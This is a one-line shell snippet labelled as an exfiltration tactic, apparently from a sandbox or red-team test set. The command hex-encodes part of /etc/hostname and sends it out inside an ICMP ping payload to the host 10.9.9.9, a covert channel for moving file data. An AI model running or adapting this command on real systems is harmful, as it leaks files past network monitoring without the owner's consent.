# tactic: exfiltration
# a file out in ping payloads (the sandbox network namespace only)
ping -c 1 -W 1 -p "$(xxd -p -l 16 /etc/hostname)" 10.9.9.9 2>/dev/null; true
